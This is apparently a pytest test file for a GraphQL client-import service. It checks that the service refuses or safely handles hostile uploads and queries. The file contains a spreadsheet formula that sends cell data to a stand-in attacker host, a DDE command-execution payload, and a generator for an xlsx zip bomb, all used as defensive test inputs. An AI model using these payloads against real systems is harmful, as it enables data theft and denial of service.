"""Hostile and broken input. Each gives a clear error or a correct import; the server stays
up, and another import running at the same time finishes with every row imported."""

from __future__ import annotations

import csv
import io
import json
import uuid
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from openpyxl import Workbook
from sqlmodel import select
from starlette.testclient import TestClient

from domain.accounts.auth import issue_token
from domain.models import Client
from domain.settings import Settings
from graph.app import create_app
from tests.helpers import (
    CLIENT_HEADER,
    PROGRESS,
    auth,
    client_csv,
    data_of,
    error_code,
    gql,
    settle,
    start,
    upload,
)

BACKGROUND_ROWS = 400


@pytest.fixture
def settings(tmp_path: Path) -> Settings:
    return Settings(data_dir=tmp_path / "data", chunk_size=50, max_upload_bytes=150 * 1024 * 1024,
                    requests_per_minute=0)


@pytest.fixture
def background(client: TestClient, token: str) -> Iterator[str]:
    """An import under way while the hostile input arrives; afterwards it must finish whole."""
    content = client_csv(BACKGROUND_ROWS, start=10_000)
    created = data_of(upload(client, content, token=token, filename="background.csv"))["createImport"]
    assert settle(client, token, created["id"])["status"] == "VALIDATED"
    assert data_of(start(client, token, created["id"]))["startImport"]["status"] == "IMPORTING"
    yield created["id"]
    final = settle(client, token, created["id"])
    assert (final["status"], final["importedRows"], final["failedImportRows"]) == ("IMPORTED", BACKGROUND_ROWS, 0)
    assert client.get("/health").status_code == 200


def message_of(result: dict) -> str:
    return result["errors"][0]["message"]


def refused(result: dict, code: str, *words: str) -> None:
    assert error_code(result) == code, result
    assert result.get("data") in (None, {"createImport": None}), result
    for word in words:
        assert word in message_of(result), message_of(result)
    assert "Traceback" not in json.dumps(result)


def test_a_cell_of_100_mb_is_refused_with_the_cell_limit(client, token, background, tmp_path):
    path = tmp_path / "huge-cell.csv"
    with path.open("wb") as out:
        out.write(CLIENT_HEADER.encode() + b'Ada,Lovelace,ada@example.com,,,,"')
        block = b"x" * (1024 * 1024)
        for _ in range(100):
            out.write(block)
        out.write(b'"\n')
    with path.open("rb") as stream:
        response = client.post(
            "/graphql", headers=auth(token) | {"GraphQL-Preflight": "1"},
            data={"operations": json.dumps({"query": "mutation($i: CreateImportInput!) { createImport(input: $i) { id } }",
                                            "variables": {"i": {"type": "CLIENT", "file": None}}}),
                  "map": json.dumps({"0": ["variables.i.file"]})},
            files={"0": ("huge-cell.csv", stream, "text/csv")},
        )
    refused(response.json(), "CELL_TOO_LONG", "32,767", "IMPORTER_MAX_CELL_CHARS")


def test_a_million_columns_are_refused_with_the_column_limit(client, token, background):
    header = ",".join(f"c{i}" for i in range(1_000_000))
    result = upload(client, f"{header}\n{',' * 999_999}x\n".encode(), token=token)
    refused(result, "TOO_MANY_COLUMNS", "1,000,000 cells", "500", "IMPORTER_MAX_COLUMNS")


def test_an_unterminated_quote_is_refused_at_upload_or_errors_the_import_naming_the_row(client, token, background):
    early = CLIENT_HEADER + 'Ada,Lovelace,"ada@example.com\nBob,Brown,bob@example.com,,,,\n'
    refused(upload(client, early.encode(), token=token), "BAD_FILE", "row 2", "never closed")
    later = client_csv(30) + b'Ada,Lovelace,"ada@example.com\nBob,Brown,bob@example.com,,,,\n'
    created = data_of(upload(client, later, token=token))["createImport"]
    final = settle(client, token, created["id"])
    assert final["status"] == "ERRORED"
    assert "row 32" in final["errorMessage"] and "never closed" in final["errorMessage"]


def zip_bytes() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("clients.csv", CLIENT_HEADER)
    return out.getvalue()


@pytest.mark.parametrize(("content", "words"), [
    (zip_bytes(), "ZIP"),
    (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 8, "PNG"),
    (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n" + bytes(range(256)) * 8, "PDF"),
], ids=["zip", "png", "pdf"])
def test_a_zip_png_or_pdf_named_csv_is_refused_saying_what_it_is(client, token, background, content, words):
    refused(upload(client, content, token=token, filename="clients.csv"), "BAD_FILE", words, "not CSV")


def zip_bomb(unpacked_mib: int) -> bytes:
    """A workbook whose sheet unpacks to `unpacked_mib` MiB of the same row, written as it is packed."""
    book = Workbook()
    book.active.append(["first_name", "last_name", "email"])
    base = io.BytesIO()
    book.save(base)
    row = b'<row><c t="inlineStr"><is><t>x</t></is></c></row>'
    block = row * (1024 * 1024 // len(row))
    out = io.BytesIO()
    with zipfile.ZipFile(base) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            if item.filename != "xl/worksheets/sheet1.xml":
                target.writestr(item, source.read(item.filename))
                continue
            with target.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
                sheet.write(b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/'
                            b'spreadsheetml/2006/main"><sheetData>')
                for _ in range(unpacked_mib):
                    sheet.write(block)
                sheet.write(b"</sheetData></worksheet>")
    return out.getvalue()


def test_an_xlsx_zip_bomb_is_refused_before_it_is_unpacked(client, token, background):
    bomb = zip_bomb(300)
    assert len(bomb) < 2 * 1024 * 1024
    refused(upload(client, bomb, token=token, filename="clients.xlsx"), "BAD_FILE", "zip bomb")


def test_an_xlsx_that_unpacks_past_the_limit_is_refused_with_it(tmp_path):
    settings = Settings(data_dir=tmp_path / "data", max_unpacked_bytes=5 * 1024 * 1024, requests_per_minute=0)
    with TestClient(create_app(settings)) as client:
        token = issue_token(client.app.state.services.db).token
        result = upload(client, zip_bomb(8), token=token, filename="clients.xlsx")
        refused(result, "FILE_TOO_LARGE", "5,242,880", "IMPORTER_MAX_UNPACKED_BYTES")
        assert result["errors"][0]["extensions"]["limit"] == 5 * 1024 * 1024


def test_invalid_utf8_is_read_as_windows_1252_and_imported(client, db, token, background):
    content = (CLIENT_HEADER.encode() + b"Jos\xe9,M\xfcller,jose@example.com,,,,caf\xe9 \x80 5\n"
               + b"Zo\xeb,Smith,zoe@example.com,,,,\n")
    created = data_of(upload(client, content, token=token))["createImport"]
    assert settle(client, token, created["id"])["failedValidationRows"] == 0
    data_of(start(client, token, created["id"]))
    assert settle(client, token, created["id"])["importedRows"] == 2
    with db.read() as session:
        names = {c.email: (c.first_name, c.last_name, c.notes) for c in session.exec(
            select(Client).where(Client.import_id == uuid.UUID(created["id"])))}
    assert names["jose@example.com"] == ("José", "Müller", "café € 5")
    assert names["zoe@example.com"][0] == "Zoë"


def test_nul_bytes_are_refused_at_upload_or_error_the_import_naming_the_row(client, token, background):
    refused(upload(client, b"first_name,last\x00_name,email\nA,B,a@example.com\n", token=token), "BAD_FILE", "binary")
    later = client_csv(200) + b"Ada,Love\x00lace,ada@example.com,,,,\n"  # past the first 8 KiB
    created = data_of(upload(client, later, token=token))["createImport"]
    final = settle(client, token, created["id"])
    assert final["status"] == "ERRORED" and "NUL" in final["errorMessage"] and "row 202" in final["errorMessage"]


def test_10000_duplicate_headers_are_refused_with_a_short_message(tmp_path):
    settings = Settings(data_dir=tmp_path / "data", max_columns=20_000, requests_per_minute=0)
    with TestClient(create_app(settings)) as client:
        token = issue_token(client.app.state.services.db).token
        header = ",".join(f"name{i % 5000}" for i in range(10_000))
        result = upload(client, f"{header}\n{'x,' * 9_999}x\n".encode(), token=token)
        refused(result, "BAD_FILE", "repeats", "name0", "4,990 more")
        assert len(message_of(result)) < 500
    with TestClient(create_app(settings.with_changes(max_columns=500))) as client:
        token = issue_token(client.app.state.services.db).token
        result = upload(client, f"{'email,' * 9_999}email\nx\n".encode(), token=token)
        refused(result, "TOO_MANY_COLUMNS", "10,000 cells")


FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'


def test_formula_cells_are_kept_as_data_on_import_and_neutralised_in_the_error_report(client, db, token, background):
    rows = [["first_name", "last_name", "email", "notes"],
            ["Ada", "Lovelace", "ada@example.com", FORMULA],
            ["+SUM(1,2)", "Brown", "not-an-email", "@cmd|' /C calc'!A0"]]
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    created = data_of(upload(client, out.getvalue().encode(), token=token))["createImport"]
    validated = settle(client, token, created["id"])
    assert (validated["totalRows"], validated["failedValidationRows"]) == (2, 1)
    data_of(start(client, token, created["id"]))
    assert settle(client, token, created["id"])["importedRows"] == 1
    with db.read() as session:
        imported = session.exec(select(Client).where(Client.import_id == uuid.UUID(created["id"]))).one()
    assert imported.notes == FORMULA
    report = client.get(validated["errorReportUrl"], headers=auth(token))
    assert report.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(report.text)) for cell in row]
    assert "'+SUM(1,2)" in cells and "'@cmd|' /C calc'!A0" in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")]


def test_templates_neutralise_every_cell(client):
    for kind in data_of_types(client):
        response = client.get(f"/import-types/{kind}/template.csv")
        assert response.status_code == 200
        cells = [cell for row in csv.reader(io.StringIO(response.text)) for cell in row]
        assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")], kind


def data_of_types(client: TestClient) -> list[str]:
    token = issue_token(client.app.state.services.db).token
    return [t["type"].lower() for t in data_of(gql(client, "{ importTypes { type } }", token=token))["importTypes"]]


def test_a_query_nested_1000_deep_is_refused(client, token, background):
    query = "{ importTypes " + "{ fields " * 1000 + "{ name }" + " }" * 1000 + " }"
    result = gql(client, query, token=token)
    assert error_code(result) == "QUERY_TOO_DEEP"
    assert result["errors"][0]["extensions"]["setting"] == "IMPORTER_MAX_QUERY_DEPTH"


def test_a_10_mb_query_is_refused_before_it_is_read_whole(client, token, background):
    query = "{ importTypes { type } " + "__typename " * (10 * 1024 * 1024 // 11) + "}"
    response = client.post("/graphql", json={"query": query}, headers=auth(token))
    assert response.status_code == 413
    assert response.json()["errors"][0]["extensions"]["code"] == "QUERY_TOO_LARGE"


def test_1000_aliases_of_one_field_are_refused(client, token, background):
    query = "{ " + " ".join(f"a{i}: __typename" for i in range(1000)) + " }"
    result = gql(client, query, token=token)
    assert error_code(result) == "TOO_MANY_ALIASES"
    assert result["errors"][0]["extensions"]["limit"] == 30


def test_a_subscription_flood_from_one_client_is_bounded_and_others_go_on(tmp_path):
    settings = Settings(data_dir=tmp_path / "data", requests_per_minute=0)
    with TestClient(create_app(settings, run_worker=False)) as client:  # imports stay VALIDATING: subscriptions stay open
        db = client.app.state.services.db
        flooder, other = issue_token(db).token, issue_token(db, organisation="Other").token
        import_id = data_of(upload(client, client_csv(2), token=flooder))["createImport"]["id"]
        with client.websocket_connect("/graphql", subprotocols=["graphql-transport-ws"]) as ws:
            ws.send_json({"type": "connection_init", "payload": auth(flooder)})
            assert ws.receive_json()["type"] == "connection_ack"
            for number in range(200):
                ws.send_json({"id": str(number), "type": "subscribe",
                              "payload": {"query": PROGRESS, "variables": {"id": import_id}}})
            first: dict[str, dict] = {}
            for _ in range(1000):  # each subscription's first answer (a refusal is followed by `complete`)
                answer = ws.receive_json()
                first.setdefault(answer["id"], answer)
                if len(first) == 200:
                    break
            opened = [a for a in first.values() if a["type"] == "next" and a["payload"].get("data")]
            refusals = [a["payload"] if a["type"] == "error" else a["payload"].get("errors") for a in first.values()
                        if a["type"] == "error" or a["payload"].get("errors")]
            assert len(opened) == 20 and len(refusals) == 180
            assert {r[0]["extensions"]["code"] for r in refusals} == {"TOO_MANY_SUBSCRIPTIONS"}
            own = data_of(upload(client, client_csv(2), token=other))["createImport"]["id"]
            with client.websocket_connect("/graphql", subprotocols=["graphql-transport-ws"]) as second:
                second.send_json({"type": "connection_init", "payload": auth(other)})
                assert second.receive_json()["type"] == "connection_ack"
                second.send_json({"id": "1", "type": "subscribe",
                                  "payload": {"query": PROGRESS, "variables": {"id": own}}})
                assert second.receive_json()["payload"]["data"]["importProgress"]["status"] == "VALIDATING"
        assert client.get("/health").status_code == 200
